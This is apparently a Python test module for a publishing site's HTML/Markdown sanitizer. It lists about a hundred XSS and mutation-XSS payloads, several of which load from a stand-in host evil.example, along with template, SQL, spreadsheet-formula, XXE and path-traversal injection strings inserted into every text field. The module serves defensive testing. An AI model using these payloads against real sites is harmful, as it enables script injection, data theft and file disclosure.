"""Markup that means ill: in bodies, where some HTML is taken, and in fields, where none is."""

import json
from collections.abc import Iterator

from .case import Case, a_topic, an_article, of_text

BODIES = {
    "script": "<script>alert(1)</script>",
    "script-from-elsewhere": "<script src=https://evil.example/x.js></script>",
    "script-in-capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script-in-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-unclosed": "<script>alert(1)",
    "script-module": "<script type=module>import 'https://evil.example/x.js'</script>",
    "script-that-is-data": "<script type='application/ld+json'>{}</script>",
    "script-with-a-slash": "<script/x>alert(1)</script/x>",
    "handler-click": "<b onclick=alert(1)>x</b>",
    "handler-with-a-slash": "<b/onclick=alert(1)>x</b>",
    "handler-across-lines": "<div\nonmouseover\n=\nalert(1)>x</div>",
    "handler-toggle": "<details ontoggle=alert(1) open><summary>x</summary>y</details>",
    "handler-focus": "<p tabindex=0 autofocus onfocus=alert(1)>x</p>",
    "handler-animation": "<p style='animation: x' onanimationstart=alert(1)>x</p>",
    "handler-of-picture": "<img src=x onerror=alert(1)>",
    "handler-in-title": "<abbr title='\"onclick=alert(1)//'>x</abbr>",
    "handler-with-nul-like-sign": "<b on\u00a0click=alert(1)>x</b>",
    "address-javascript": "<a href='javascript:alert(1)'>x</a>",
    "address-javascript-mixed": "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "address-javascript-entity": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "address-javascript-tab": "<a href='java\tscript:alert(1)'>x</a>",
    "address-javascript-line": "<a href='java&NewLine;script:alert(1)'>x</a>",
    "address-data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "address-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "address-blob": "<a href='blob:https://evil.example/1'>x</a>",
    "address-file": "<a href='file:///etc/passwd'>x</a>",
    "address-without-scheme": "<a href='//evil.example/'>x</a>",
    "address-ping": "<a href='https://example.org/' ping='https://evil.example/'>x</a>",
    "address-of-our-own-mark": "<a href='digest:?99'>x</a>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-load": "<svg onload=alert(1)>",
    "svg-use": "<svg><use href='https://evil.example/a.svg#x'/></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg-foreign-object": "<svg><foreignObject><iframe src=https://evil.example/></foreignObject></svg>",
    "svg-image": "<svg><image href=https://evil.example/a.png /></svg>",
    "svg-style": "<svg><style>@import 'https://evil.example/a.css'</style></svg>",
    "mathml-link": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "mathml-action": "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "mathml-annotation": "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "mxss-noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "mxss-style": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "mxss-mglyph": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=a()&gt;\">",
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mxss-cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "mxss-comment": "<!--><img src=x onerror=alert(1)>-->",
    "mxss-comment-end": "<!-- --!><img src=x onerror=alert(1)> -->",
    "mxss-title": "<svg><title><style><a title='</style><img src=x onerror=alert(1)>'></title></svg>",
    "mxss-xmp": "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "mxss-textarea": "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "mxss-template": "<template><img src=x onerror=alert(1)></template>",
    "mxss-select": "<select><template><style><!--</style><img src=x onerror=alert(1)></template></select>",
    "mxss-table": "<table><a href='javascript:alert(1)'><tr><td>x",
    "mxss-plaintext": "<plaintext><script>alert(1)</script>",
    "mxss-noembed": "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "form": "<form action=https://evil.example/><input name=q><button>x</button></form>",
    "form-action": "<button formaction=javascript:alert(1)>x</button>",
    "form-image": "<input type=image src=https://evil.example/a.png onerror=alert(1)>",
    "form-keygen": "<isindex action=javascript:alert(1) type=submit><keygen autofocus onfocus=alert(1)>",
    "meta-refresh": "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "meta-charset": "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "base": "<base href=https://evil.example/>",
    "link-stylesheet": "<link rel=stylesheet href=https://evil.example/a.css>",
    "link-preload": "<link rel=preload as=script href=https://evil.example/a.js>",
    "style": "<style>p { background: url(https://evil.example/a.png) }</style>",
    "style-attribute": "<p style='background: url(https://evil.example/a.png)'>x</p>",
    "style-expression": "<p style='width: expression(alert(1))'>x</p>",
    "frame": "<iframe src=https://evil.example/></iframe>",
    "frame-with-document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frame-set": "<frameset onload=alert(1)><frame src=https://evil.example/></frameset>",
    "frame-object": "<object data=https://evil.example/><embed src=https://evil.example/></object>",
    "frame-applet": "<applet code=x archive=https://evil.example/></applet>",
    "frame-portal": "<portal src=https://evil.example/></portal><fencedframe src=https://evil.example/></fencedframe>",
    "media-picture": "<img src=https://evil.example/a.png alt=x>",
    "media-set": "<img srcset='https://evil.example/a.png 2x' alt=x>",
    "media-source": "<picture><source srcset=https://evil.example/a.png><img alt=x></picture>",
    "media-video": "<video src=https://evil.example/a.mp4 poster=//evil.example/a.png onplay=alert(1)></video>",
    "media-audio": "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "media-background": "<table background=https://evil.example/a.png><tr><td>x</td></tr></table>",
    "media-lowsrc": "<img lowsrc=https://evil.example/a.png dynsrc=https://evil.example/a.mp4>",
    "media-bgsound": "<bgsound src=https://evil.example/a.wav><layer src=https://evil.example/></layer>",
    "clobbering": "<p id=location name=body>x</p><a id=search name=facets>y</a>",
    "custom-element": "<x-y onclick=alert(1) is=z>x</x-y>",
    "declaration": "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "template-of-a-server": "<!--#exec cmd='id' --><%= 7 * 7 %>{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "code-fence": "```\"><script>alert(1)</script>\nx\n```",
    "code-span": "`<script>alert(1)</script>`",
    "footnote-name": "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: y",
    "footnote-text": "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "heading": "## x\" onclick=\"alert(1) <script>alert(1)</script>",
    "marks-of-the-library": "\ue000script\ue001alert(1)\ue000/script\ue001",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "quote-in-title-of-link": "[x](https://example.org/ '\"onclick=alert(1) x=\"')",
}  # fmt: skip
REFUSED_BODIES = {
    "link-javascript": "[x](javascript:alert(1))",
    "link-javascript-entity": "[x](&#106;avascript:alert(1))",
    "link-javascript-capitals": "[x](JAVASCRIPT:alert(1))",
    "link-javascript-by-name": '[x][y]\n\n[y]: javascript:alert(1) "z"',
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "link-vbscript": "[x](vbscript:msgbox(1))",
    "link-file": "[x](file:///etc/passwd)",
    "link-upwards": "[x](../../../../etc/passwd)",
    "link-upwards-encoded": "[x](..%2f..%2f..%2fetc/passwd)",
    "link-quote-in-address": '[x](https://example.org/"onclick=alert(1)//)',
    "image-elsewhere": "![x](https://evil.example/a.png)",
    "image-without-scheme": "![x](//evil.example/a.png)",
    "image-data": "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "image-upwards": "![x](../../../secret.png)",
    "image-with-handler": '!["onerror=alert(1) x="](nothing.png)',
}
"""Links and pictures that lead where none may."""
TEXTS = {
    "script": "<script>alert(1)</script>",
    "end-of-script": "</script><script>alert(1)</script>",
    "end-of-title": "</title><script>alert(1)</script>",
    "end-of-comment": "--><img src=x onerror=alert(1)><!--",
    "end-of-cdata": "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "end-of-attribute": '" onmouseover="alert(1)" x="',
    "end-of-attribute-single": "' onmouseover='alert(1)' x='",
    "picture": "<img src=x onerror=alert(1)>",
    "frame": "<iframe src=https://evil.example/></iframe>",
    "svg": "<svg/onload=alert(1)>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}<%= 7 %>",
    "formula": '=HYPERLINK("https://evil.example/","x")',
    "formula-command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bibtex": "}}, title = {{\\input{/etc/passwd}} @book{x",
    "sql": "'); DROP TABLE articles; --",
    "calendar": "x\\nEND:VEVENT\\nBEGIN:VALARM\\nACTION:EMAIL",
}
"""What stands in every field that takes text."""
FIELDS = (
    *("article.title", "article.summary", "article.dateline", "article.tags", "article.by", "article.checked_by"),
    *("article.corrections", "article.updated", "article.publisher", "article.title of source"),
    *("article.author", "article.alt", "article.credit", "article.licence", "article.claims", "topic.title"),
    *("topic.summary", "topic.label", "topic.text", "topic.parties", "topic.figures", "topic.disputed"),
    *("topic.lineage", "event.text", "event.note", "reply.name", "reply.body", "page.title", "page.summary"),
)
"""The fields that `in_fields` fills: each with each text is a case."""


def bodies() -> Iterator[Case]:
    """Yield what a body may hold, and what it leaves of it is inert."""
    for rule, text in BODIES.items():
        yield an_article(f"body-{rule}", {}, text + "\n\nBoats were counted.")


def refused_bodies() -> Iterator[Case]:
    for rule, text in REFUSED_BODIES.items():
        yield an_article(f"body-{rule}", {}, f"{text}\n\nBoats were counted.", "link: |image: ")


def in_fields(rule: str, text: str, number: int) -> Iterator[Case]:
    """Yield the files in which a text stands in every field."""
    name, field = f"field-{rule}", json.dumps(text)
    title = json.dumps(f"{text} {number}")
    url = f"https://news.example.org/{name}"
    citation = f"{{publisher: {title}, via: Harbour News, url: '{url}', title: {field}, author: {field}}}"
    picture = f"{{src: {name}.png, alt: {field}, credit: {field}, licence: {field}}}"
    article = an_article(
        name,
        {
            "title": title, "summary": field, "dateline": field, "tags": f"[{title}]", "by": field,
            "checked_by": field, "source": citation, "image": picture, "private_notes": field,
            "corrections": f"[{{date: 2026-03-02, text: {field}}}]", "claims": f"[{{text: {field}, basis: {field}}}]",
            "updated": f"{{date: 2026-03-02, note: {field}}}", "id": f"{number:08}-0000-4000-8000-000000000000",
        },
    )  # fmt: skip
    yield article
    status = f"{{state: none, label: {field}, as_of: 2026, text: {field}, source: {citation}}}"
    figure = f"{{id: x, name: {field}, value: {field}, unit: {field}, as_of: 2026, source: {citation}, note: {field}}}"
    topic = {
        "title": title, "summary": field, "status": status, "parties": f"[{field}]", "figures": f"[{figure}]",
        "disputed": f"[{field}]", "lineage": f"[{{name: {field}, source: {citation}}}]",
    }  # fmt: skip
    yield a_topic(name, topic)
    event = f"[{{id: {name}, date: 2026, text: {field}, topics: [{name}], sources: [{citation}], note: {field}}}]\n"
    yield of_text(name, f"events/{name}.yaml", event)
    yield of_text(name, f"replies/{number:08}/001.md", reply(field, text))
    yield of_text(name, f"pages/{name}.md", f"---\ntitle: {title}\nsummary: {field}\n---\n\nBoats.\n")


def reply(name: str, body: str) -> str:
    return f"---\nname: {name}\ndate: 2026-03-02\nstatus: approved\n---\n\n{body}\n"


def fields() -> Iterator[Case]:
    """Yield the files of all texts."""
    for number, (rule, text) in enumerate(TEXTS.items(), 10_000_000):
        yield from in_fields(rule, text, number)
